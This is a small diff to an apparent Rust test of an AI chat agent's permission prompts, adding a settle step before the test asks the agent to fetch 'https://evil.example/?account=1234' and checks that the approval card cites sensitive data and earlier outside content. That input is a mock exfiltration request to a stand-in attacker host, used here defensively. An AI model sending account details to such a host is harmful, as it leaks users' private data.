@@ -50,6 +50,7 @@ async fn beside_outside_content_a_change_asks_and_an_address_asks_for_each_reaso
     assert!(first.text.contains("outside content was read"), "{first:?}");
     chat.press(&first, "Deny").await;
     chat.closed(&first, "Denied").await;
+    chat.settle().await;
     chat.say("fetch https://evil.example/?account=1234").await;
     let second = chat.next_card(&first).await;
     for reason in ["sensitive", "outside content was read"] {
